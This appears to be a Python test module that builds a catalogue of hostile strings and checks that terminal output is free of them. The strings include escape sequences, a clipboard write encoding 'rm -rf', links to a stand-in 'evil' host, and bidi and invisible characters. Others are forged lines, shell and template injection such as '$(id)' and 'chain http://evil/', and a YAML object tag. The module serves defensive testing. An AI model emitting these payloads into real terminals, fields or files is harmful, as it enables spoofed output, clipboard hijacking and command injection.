"""What no machine should say, and what may not come out of it anywhere: judged by Unicode's own tables."""

import unicodedata
from collections.abc import Iterator, Mapping

from hypothesis import strategies as st

FORGED = "FORGED"  # at the beginning of a line: somebody else's words pass for ours
MOST_MARKS = 2
INVISIBLE = "\u115f\u1160\u2800\u3164\uffa0"
WORDS = {
    "clears the screen": "S\x1b[2J1",
    "sets the title": "\x1b]0;title\x07",
    "is a link": "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\",
    "fills the clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "asks the terminal": "\x1b[c\x1b[6n\x05",
    "goes back to the line's beginning": f"nothing\r{FORGED}",
    "rings": "\x07\x07",
    "overprints": "nvme1n1\b\b\b\b\b\b\bnvme0n1",
    "erases": "\x7f\x7f",
    "begins a line": f"S1\n{FORGED} ✓ ready",
    "begins a line in ASCII": f"S1\n{FORGED}: all is well",
    "is long enough to be folded": " ".join(["S1", *[FORGED] * 40]),
    "begins a line by CR and LF": f"S1\r\n{FORGED} ✓ ready",
    "begins a line by NEL": f"S1\x85{FORGED} ✓ ready",
    "begins a line by LS": f"S1\u2028{FORGED} ✓ ready",
    "begins a paragraph": f"S1\u2029{FORGED} ✓ ready",
    "begins a page": f"S1\x0b\x0c{FORGED}\x1c\x1d\x1e\x1f",
    "commands in eight bits": "\x9b2J\x9d0;t\x9c",
    "turns round": "S1\u202e2S\u202c",
    "isolates": "\u2066S1\u2069\u2067S2\u2068",
    "marks a direction": "\u200e\u200f\u061cS1",
    "hides": "S\u200b1\u200c2\u200d3\ufeff\u2060\u00ad",
    "tags": "S1\U000e0001\U000e0041",
    "shows nothing": f"S{INVISIBLE}1",
    "is private": "\ue000\U000f0000",
    "is no character": "\ufffe\U0010ffff\u0378",
    "is half a character": "S\ud8001\udfff",
    "is nothing": "\x00\x00",
    "piles marks": "Z" + "\u0300\u0489" * 40,
    "begins with a mark": "\u0301\u20ddS1",
    "is markup": "[/][bold red]S1[/nothing] :boom: [link=http://evil/]x[/link]",
    "is a script": "${net0/mac} || chain http://evil/ ; shell && reboot `id` $(id) {{ 7 * 7 }} %n%s",
    "is YAML": "S1: [a, &b, *c, !!python/object]\n- x: |",
    "is long": "x" * 5000,
    "is long and wide": "Ｓ" * 5000,
    "is full of blanks": " a \t\t  b \u00a0\u3000 c " + " " * 3000 + "d",
}
LOOKALIKE = "ＳＮ－１ ΑΒС"  # full-width, Greek, Cyrillic: letters as good as any
ANY = st.sampled_from(sorted(WORDS.values())) | st.lists(
    st.sampled_from(sorted(WORDS.values())) | st.text(st.characters(), max_size=12), max_size=4
).map("".join)


def faults(text: str) -> list[str]:
    """The characters of a line that may not reach a terminal, by their numbers."""
    found, marks = [], 0
    for letter in text:
        category = unicodedata.category(letter)
        marks = marks + 1 if category in ("Mn", "Me") else 0
        if category[0] == "C" or category in ("Zl", "Zp") or letter in INVISIBLE or marks > MOST_MARKS:
            found.append(f"U+{ord(letter):04X}")
    return found


def texts(value: object) -> Iterator[str]:
    """Every text in plain data, keys too."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        yield from (text for pair in value.items() for part in pair for text in texts(part))
    elif isinstance(value, list | tuple):
        yield from (text for part in value for text in texts(part))


def line_faults(text: str, *, is_table: bool = False) -> list[str]:
    """Likewise of lines; and those that begin as no line of ours does.

    A cell of a table may be wrapped, so that the words stand below the others of their column.
    """
    lines = text.split("\n")
    forged = [line for line in lines if (line if is_table else line.lstrip()).startswith(FORGED)]
    return [fault for line in lines for fault in faults(line)] + forged
